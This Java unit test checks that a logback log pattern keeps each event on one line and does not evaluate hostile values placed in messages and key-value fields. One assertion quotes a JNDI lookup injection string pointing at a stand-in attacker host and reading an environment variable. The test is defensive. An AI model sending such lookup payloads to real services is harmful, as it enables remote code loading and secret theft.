package dev.companion.standalone;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.PatternLayout;
import ch.qos.logback.classic.spi.LoggingEvent;
import dev.companion.testing.hostile.HostileName;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Objects;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.slf4j.event.KeyValuePair;

/** One event is one line of the log, whatever is in its values. */
class LogPatternTest {

    private final LoggerContext context = new LoggerContext();
    private final PatternLayout layout = new PatternLayout();

    @BeforeEach
    void readThePattern() throws IOException {
        layout.setContext(context);
        layout.setPattern(pattern(read("/logback.xml")));
        layout.start();
    }

    private static String read(String resource) throws IOException {
        try (var file = Objects.requireNonNull(LogPatternTest.class.getResourceAsStream(resource))) {
            return new String(file.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static String pattern(String text) {
        var pattern = Pattern.compile("<pattern>(.*)</pattern>").matcher(text);
        assertThat(pattern.find()).isTrue();
        return pattern.group(1);
    }

    @Test
    void aContainerPrintsTheSameLines() throws IOException {
        var file = read("/logback.xml");
        var printed = read("/dev/companion/standalone/container-logback.xml");

        assertThat(pattern(printed)).isEqualTo(pattern(file));
        assertThat(List.of(file, printed)).allMatch(text -> text.contains("dev/companion/standalone/levels.xml"));
        assertThat(printed).contains("ConsoleAppender").doesNotContain("FileAppender");
    }

    @ParameterizedTest
    @EnumSource
    void aHostileValueForgesNoLineAndIsNotEvaluated(HostileName name) {
        var event = new LoggingEvent(
                "fqcn", context.getLogger("dev.companion"), Level.WARN, "said {}", null, new Object[] {name.text()});
        event.setInstant(Instant.parse("2026-11-01T10:00:00Z"));
        event.setKeyValuePairs(List.of(new KeyValuePair("siteName", name.text())));

        var line = layout.doLayout(event);

        assertThat(line).endsWith(System.lineSeparator()).contains("siteName=", "said ");
        assertThat(line.stripTrailing()).doesNotContainPattern("[\\x00-\\x1F\\x7F-\\x9F\\u2028\\u2029]");
        assertThat(line).startsWith("2026-11-01T").contains(" WARN ");
        if (name == HostileName.LOOK_UP) {
            assertThat(line).contains("${jndi:ldap://evil.example/a}${env:HOME}%n%msg{}{}");
        }
    }
}
